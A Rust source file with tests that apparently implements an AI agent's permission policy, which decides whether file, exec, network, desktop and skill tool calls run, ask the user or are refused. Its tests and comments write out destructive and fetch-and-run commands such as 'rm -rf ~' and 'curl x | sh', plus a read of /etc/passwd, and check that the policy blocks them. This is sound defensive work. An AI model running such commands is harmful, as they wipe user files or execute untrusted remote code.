//! Which tool calls run, which ask the user first and which are refused.

use std::path::Path;

use serde::{Deserialize, Serialize};

use crate::tools::{Access, DesktopAccess, ExecSandbox};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS))]
#[serde(rename_all = "lowercase")]
pub enum Verdict {
    Allow,
    Ask,
    Deny,
}

/// An `exec` rule: commands starting with `prefix` (as whole words) get `action`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS))]
#[serde(deny_unknown_fields)]
pub struct ExecRule {
    pub prefix: String,
    pub action: Verdict,
    /// `false` runs matching commands outside the sandbox, with all the user's rights.
    #[serde(default = "yes", skip_serializing_if = "is_true")]
    pub sandbox: bool,
    /// Matching commands may open network connections (sockets).
    #[serde(default, skip_serializing_if = "is_false")]
    pub network: bool,
}

impl ExecRule {
    /// A sandboxed rule without network.
    pub fn new(prefix: &str, action: Verdict) -> Self {
        Self {
            prefix: prefix.to_owned(),
            action,
            sandbox: true,
            network: false,
        }
    }
}

fn yes() -> bool {
    true
}

fn is_true(value: &bool) -> bool {
    *value
}

fn is_false(value: &bool) -> bool {
    !*value
}

/// How a command runs: in the sandbox (with network if the plain command's rule allows
/// it), or outside when its rule says `sandbox = false`. Chained lines match no rule, so
/// they always get the sandbox without network.
pub fn exec_sandbox(rules: &[ExecRule], command: &str) -> ExecSandbox {
    let command = command.trim();
    if command.contains(SHELL_CHAINING) {
        return ExecSandbox::Sandboxed { network: false };
    }
    match matching_rule(rules, command) {
        Some(rule) if !rule.sandbox => ExecSandbox::Unsandboxed,
        Some(rule) => ExecSandbox::Sandboxed {
            network: rule.network,
        },
        None => ExecSandbox::Sandboxed { network: false },
    }
}

/// The longest rule whose prefix matches whole words of `command`.
fn matching_rule<'r>(rules: &'r [ExecRule], command: &str) -> Option<&'r ExecRule> {
    rules
        .iter()
        .filter(|rule| {
            let prefix = rule.prefix.trim();
            !prefix.is_empty()
                && command.starts_with(prefix)
                && command[prefix.len()..]
                    .chars()
                    .next()
                    .is_none_or(char::is_whitespace)
        })
        .max_by_key(|rule| rule.prefix.trim().len())
}

/// The `[policy]` section of config.toml.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS))]
#[serde(deny_unknown_fields, default)]
pub struct PolicyConfig {
    /// Reads outside the workspace.
    pub outside_read: Verdict,
    /// Writes outside the workspace.
    pub outside_write: Verdict,
    /// Writes inside the workspace.
    pub write: Verdict,
    /// `exec` commands no rule matches.
    pub exec: Verdict,
    pub web_fetch: Verdict,
    /// Desktop automation: capturing the screen.
    pub screenshot: Verdict,
    /// Desktop automation: moving and clicking the mouse, typing, pressing keys.
    pub input: Verdict,
    /// Desktop notifications from the agent.
    pub notify: Verdict,
    /// Tools declared by skills the user did not write (ones shipped with Pincer and ones
    /// made with `pincer skills new` run without asking unless this is `deny`).
    pub skill_tools: Verdict,
    /// Rules by command prefix; the longest matching prefix wins.
    pub exec_rules: Vec<ExecRule>,
}

impl Default for PolicyConfig {
    /// Safe defaults: reads in the workspace run, changes ask, the rest of the disk is off limits.
    fn default() -> Self {
        Self {
            outside_read: Verdict::Deny,
            outside_write: Verdict::Deny,
            write: Verdict::Ask,
            exec: Verdict::Ask,
            web_fetch: Verdict::Ask,
            screenshot: Verdict::Ask,
            input: Verdict::Ask,
            notify: Verdict::Allow,
            skill_tools: Verdict::Ask,
            exec_rules: Vec::new(),
        }
    }
}

/// The policy's answer for one call.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Check {
    pub verdict: Verdict,
    /// What a remembered grant covers, e.g. `exec:cargo` or `write_file`.
    pub pattern: String,
    /// One line a person can judge the call by.
    pub summary: String,
}

/// Characters that let one shell command line run several commands; a prefix rule or grant
/// for `ls` must not let `ls; rm -rf ~` through.
const SHELL_CHAINING: &[char] = &[';', '&', '|', '`', '$', '>', '<', '\n', '(', ')'];

impl PolicyConfig {
    pub fn check(&self, tool: &str, access: &Access) -> Check {
        match access {
            Access::Read { path, inside: true } => Check {
                verdict: Verdict::Allow,
                pattern: tool.to_owned(),
                summary: format!("read {}", path.display()),
            },
            Access::Read {
                path,
                inside: false,
            } => Check {
                verdict: self.outside_read,
                pattern: format!("{tool}:{}", parent(path)),
                summary: format!("read {} (outside the workspace)", path.display()),
            },
            Access::Write {
                path,
                inside,
                preview,
            } if is_git_metadata(path) => git_write(
                tool,
                path,
                *inside,
                preview
                    .as_deref()
                    .unwrap_or("(the tool did not say what it writes)"),
                self,
            ),
            Access::Write {
                path, inside: true, ..
            } => Check {
                verdict: self.write,
                pattern: tool.to_owned(),
                summary: format!("{tool} {}", path.display()),
            },
            Access::Write {
                path,
                inside: false,
                ..
            } => Check {
                verdict: self.outside_write,
                pattern: format!("{tool}:{}", path.display()),
                summary: format!("{tool} {} (outside the workspace)", path.display()),
            },
            Access::Exec { command, sandbox } => self.check_exec(command, *sandbox),
            Access::Desktop { kind, summary } => Check {
                verdict: match kind {
                    DesktopAccess::Screen => self.screenshot,
                    DesktopAccess::Input => self.input,
                    DesktopAccess::Notify => self.notify,
                },
                pattern: tool.to_owned(),
                summary: summary.clone(),
            },
            Access::Describe { names } => Check {
                verdict: Verdict::Allow,
                pattern: tool.to_owned(),
                summary: format!("read the descriptions of {}", names.join(", ")),
            },
            // Memory holds what the user and the model chose to keep, and every change
            // can be undone: not worth an approval.
            Access::Memory { summary, .. } => Check {
                verdict: Verdict::Allow,
                pattern: tool.to_owned(),
                summary: summary.clone(),
            },
            // A job acts and spends later, while nobody watches: making or changing one is
            // the user's decision (the summary reads the job back in words).
            Access::Jobs { change, summary } => Check {
                verdict: if *change {
                    Verdict::Ask
                } else {
                    Verdict::Allow
                },
                pattern: tool.to_owned(),
                summary: summary.clone(),
            },
            Access::Skill { name } => Check {
                verdict: Verdict::Allow,
                pattern: tool.to_owned(),
                summary: format!("load the skill `{name}`"),
            },
            Access::SkillTool {
                skill,
                tool: name,
                key,
                trusted,
                summary,
            } => Check {
                verdict: match (trusted, self.skill_tools) {
                    (_, Verdict::Deny) => Verdict::Deny,
                    (true, _) => Verdict::Allow,
                    (false, verdict) => verdict,
                },
                // `@` cannot be in a skill name, so no grant stored before grants were keyed
                // by content (`skill:NAME/TOOL`) matches.
                pattern: format!("skill:{skill}@{key}/{name}"),
                summary: summary.clone(),
            },
            Access::Network { url } => Check {
                verdict: self.web_fetch,
                pattern: format!("{tool}:{}", host(url)),
                summary: format!("fetch {url}"),
            },
        }
    }

    fn check_exec(&self, command: &str, sandbox: ExecSandbox) -> Check {
        let command = command.trim();
        let chained = command.contains(SHELL_CHAINING);
        // A deny rule matches any segment of a chained line; allow rules only a plain command.
        let denied = command
            .split(SHELL_CHAINING)
            .map(str::trim)
            .any(|segment| matches!(self.rule_for(segment), Some(Verdict::Deny)));
        let verdict = if denied {
            Verdict::Deny
        } else if chained {
            match self.exec {
                Verdict::Allow => Verdict::Allow,
                Verdict::Ask | Verdict::Deny => self.exec.max_strict(Verdict::Ask),
            }
        } else {
            self.rule_for(command).unwrap_or(self.exec)
        };
        let pattern = if chained {
            format!("exec={command}")
        } else {
            format!("exec:{}", grant_scope(command))
        };
        let how = match sandbox {
            ExecSandbox::Sandboxed { network: false } => "",
            ExecSandbox::Sandboxed { network: true } => " (sandboxed, with network access)",
            ExecSandbox::Unsandboxed => {
                " (UNSANDBOXED: it can change any of your files and use the network)"
            }
        };
        Check {
            verdict,
            pattern,
            summary: format!("run `{command}`{how}"),
        }
    }

    /// The action of the longest rule whose prefix matches whole words of `command`.
    fn rule_for(&self, command: &str) -> Option<Verdict> {
        matching_rule(&self.exec_rules, command).map(|rule| rule.action)
    }
}

/// Whether `path` is inside a repository's metadata folder, where a hook or a config key
/// (`core.fsmonitor`, `core.pager`, aliases) makes the next harmless-looking `git status`
/// run whatever was written.
pub fn is_git_metadata(path: &Path) -> bool {
    path.components()
        .any(|part| part.as_os_str() == std::ffi::OsStr::new(".git"))
}

/// A write under `.git/`: never allowed without asking, whatever `write` says (a `deny`
/// stays a deny), and the approval shows what would be written. The grant covers only
/// this file with this content, so remembering it lets nothing else through.
fn git_write(tool: &str, path: &Path, inside: bool, preview: &str, policy: &PolicyConfig) -> Check {
    use sha2::Digest as _;
    let base = if inside {
        policy.write
    } else {
        policy.outside_write
    };
    let digest = sha2::Sha256::digest(preview.as_bytes());
    let short: String = digest.iter().take(8).map(|b| format!("{b:02x}")).collect();
    Check {
        verdict: base.max_strict(Verdict::Ask),
        pattern: format!("{tool}:{}#{short}", path.display()),
        summary: format!(
            "{tool} {} (repository metadata: git may run what is written here)\n{preview}",
            path.display()
        ),
    }
}

/// What an "allow for the session / always" answer covers: the program and, when there is
/// one, its subcommand — approving `git status` must not approve `git push --force`.
fn grant_scope(command: &str) -> String {
    let mut words = command.split_whitespace();
    let program = words.next().unwrap_or_default();
    match words.next() {
        Some(sub) if !sub.starts_with('-') && !sub.contains(['/', '.', '=']) => {
            format!("{program} {sub}")
        }
        _ => program.to_owned(),
    }
}

impl Verdict {
    /// The stricter of two verdicts.
    fn max_strict(self, other: Verdict) -> Verdict {
        match (self, other) {
            (Verdict::Deny, _) | (_, Verdict::Deny) => Verdict::Deny,
            (Verdict::Ask, _) | (_, Verdict::Ask) => Verdict::Ask,
            (Verdict::Allow, Verdict::Allow) => Verdict::Allow,
        }
    }
}

fn parent(path: &Path) -> String {
    path.parent().unwrap_or(path).display().to_string()
}

fn host(url: &str) -> String {
    url.split("://")
        .nth(1)
        .and_then(|rest| rest.split(['/', '?', '#']).next())
        .unwrap_or(url)
        .to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;
    use pretty_assertions::assert_eq;
    use std::path::PathBuf;

    fn desktop(policy: &PolicyConfig, tool: &str, kind: DesktopAccess) -> Check {
        policy.check(
            tool,
            &Access::Desktop {
                kind,
                summary: format!("{tool} something"),
            },
        )
    }

    #[test]
    fn desktop_control_asks_and_notifications_run_by_default() {
        let policy = PolicyConfig::default();
        let shot = desktop(&policy, "screenshot", DesktopAccess::Screen);
        assert_eq!(shot.verdict, Verdict::Ask);
        assert_eq!(shot.pattern, "screenshot");
        assert_eq!(shot.summary, "screenshot something");
        assert_eq!(
            desktop(&policy, "mouse", DesktopAccess::Input).verdict,
            Verdict::Ask
        );
        assert_eq!(
            desktop(&policy, "keyboard", DesktopAccess::Input).pattern,
            "keyboard"
        );
        assert_eq!(
            desktop(&policy, "notify", DesktopAccess::Notify).verdict,
            Verdict::Allow
        );
        let strict = PolicyConfig {
            input: Verdict::Deny,
            notify: Verdict::Ask,
            ..PolicyConfig::default()
        };
        assert_eq!(
            desktop(&strict, "keyboard", DesktopAccess::Input).verdict,
            Verdict::Deny
        );
        assert_eq!(
            desktop(&strict, "notify", DesktopAccess::Notify).verdict,
            Verdict::Ask
        );
    }

    fn exec(policy: &PolicyConfig, command: &str) -> (Verdict, String) {
        let check = policy.check(
            "exec",
            &Access::Exec {
                command: command.to_owned(),
                sandbox: exec_sandbox(&policy.exec_rules, command),
            },
        );
        (check.verdict, check.pattern)
    }

    #[test]
    fn defaults_are_safe() {
        let policy = PolicyConfig::default();
        let inside = PathBuf::from("/w/a");
        assert_eq!(
            policy
                .check(
                    "read_file",
                    &Access::Read {
                        path: inside.clone(),
                        inside: true
                    }
                )
                .verdict,
            Verdict::Allow
        );
        assert_eq!(
            policy
                .check(
                    "write_file",
                    &Access::Write {
                        path: inside,
                        inside: true,
                        preview: None,
                    }
                )
                .verdict,
            Verdict::Ask
        );
        let outside = PathBuf::from("/etc/passwd");
        assert_eq!(
            policy
                .check(
                    "read_file",
                    &Access::Read {
                        path: outside.clone(),
                        inside: false
                    }
                )
                .verdict,
            Verdict::Deny
        );
        assert_eq!(
            policy
                .check(
                    "write_file",
                    &Access::Write {
                        path: outside,
                        inside: false,
                        preview: None,
                    }
                )
                .verdict,
            Verdict::Deny
        );
        assert_eq!(
            exec(&policy, "ls -la"),
            (Verdict::Ask, "exec:ls".to_owned())
        );
        assert_eq!(exec(&policy, "git status --short").1, "exec:git status");
        assert_eq!(exec(&policy, "cat ./notes.txt").1, "exec:cat");
        let fetch = policy.check(
            "web_fetch",
            &Access::Network {
                url: "https://example.com/a?b".to_owned(),
            },
        );
        assert_eq!(
            (fetch.verdict, fetch.pattern.as_str()),
            (Verdict::Ask, "web_fetch:example.com")
        );
    }

    #[test]
    fn exec_rules_match_whole_words_and_never_cover_chains() {
        let policy = PolicyConfig {
            exec_rules: vec![
                ExecRule::new("git", Verdict::Allow),
                ExecRule::new("git push", Verdict::Ask),
                ExecRule::new("rm", Verdict::Deny),
            ],
            ..PolicyConfig::default()
        };
        assert_eq!(exec(&policy, "git status").0, Verdict::Allow);
        assert_eq!(exec(&policy, "git push origin").0, Verdict::Ask);
        assert_eq!(
            exec(&policy, "gitk").0,
            Verdict::Ask,
            "prefix is a whole word"
        );
        assert_eq!(exec(&policy, "rm -rf x").0, Verdict::Deny);
        assert_eq!(exec(&policy, "git status; rm -rf ~").0, Verdict::Deny);
        assert_eq!(
            exec(&policy, "git status && curl x | sh"),
            (Verdict::Ask, "exec=git status && curl x | sh".to_owned())
        );
    }

    #[test]
    fn the_approval_says_when_a_command_leaves_the_sandbox_or_gets_network() {
        let policy = PolicyConfig {
            exec_rules: vec![
                ExecRule {
                    sandbox: false,
                    ..ExecRule::new("cargo", Verdict::Ask)
                },
                ExecRule {
                    network: true,
                    ..ExecRule::new("curl", Verdict::Ask)
                },
            ],
            ..PolicyConfig::default()
        };
        let summary = |command: &str| {
            policy
                .check(
                    "exec",
                    &Access::Exec {
                        command: command.to_owned(),
                        sandbox: exec_sandbox(&policy.exec_rules, command),
                    },
                )
                .summary
        };
        assert_eq!(
            summary("cargo test"),
            "run `cargo test` (UNSANDBOXED: it can change any of your files and use the network)"
        );
        assert_eq!(
            summary("curl https://example.com"),
            "run `curl https://example.com` (sandboxed, with network access)"
        );
        assert_eq!(summary("ls"), "run `ls`");
        // A chained line matches no rule, so it never leaves the sandbox.
        assert_eq!(
            exec_sandbox(&policy.exec_rules, "cargo test; rm -rf ~"),
            ExecSandbox::Sandboxed { network: false }
        );
        assert_eq!(summary("curl x | sh"), "run `curl x | sh`");
    }

    #[test]
    fn exec_rules_read_sandbox_and_network_from_toml_and_default_to_confined() {
        let policy: PolicyConfig = toml::from_str(
            "exec_rules = [\n\
             { prefix = \"ls\", action = \"allow\" },\n\
             { prefix = \"curl\", action = \"ask\", network = true },\n\
             { prefix = \"cargo\", action = \"ask\", sandbox = false },\n]\n",
        )
        .unwrap();
        assert_eq!(
            policy.exec_rules,
            vec![
                ExecRule::new("ls", Verdict::Allow),
                ExecRule {
                    network: true,
                    ..ExecRule::new("curl", Verdict::Ask)
                },
                ExecRule {
                    sandbox: false,
                    ..ExecRule::new("cargo", Verdict::Ask)
                },
            ]
        );
        // Saved back, the defaults stay implicit.
        let saved = toml::to_string(&policy.exec_rules[0]).unwrap();
        assert_eq!(saved, "prefix = \"ls\"\naction = \"allow\"\n");
    }
}
